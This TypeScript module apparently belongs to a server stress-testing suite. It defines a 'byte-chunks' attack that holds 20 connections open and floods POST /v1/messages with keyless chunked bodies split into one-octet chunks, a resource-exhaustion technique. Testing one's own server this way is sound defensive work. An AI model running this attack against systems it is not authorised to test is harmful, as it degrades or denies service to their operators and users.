import { sized, type Attack } from '../../attack.ts'
import { flood, headOf, keepOpen } from '../../requests.ts'

const head = headOf('POST /v1/messages', {
  'content-type': 'application/json',
  'transfer-encoding': 'chunked',
})
const chunks = '1\r\na\r\n'.repeat(10_000)

/** Bodies in chunks of one octet, without a key. */
export const byteChunks: Attack = {
  name: 'byte-chunks',
  title: 'no key: bodies in chunks of one octet, 20 connections',
  run: (target, signal, note) =>
    keepOpen(target, sized(target, 20), signal, note, (socket) => {
      socket.write(`${head}\r\n`)
      flood(socket, () => chunks)
    }),
}
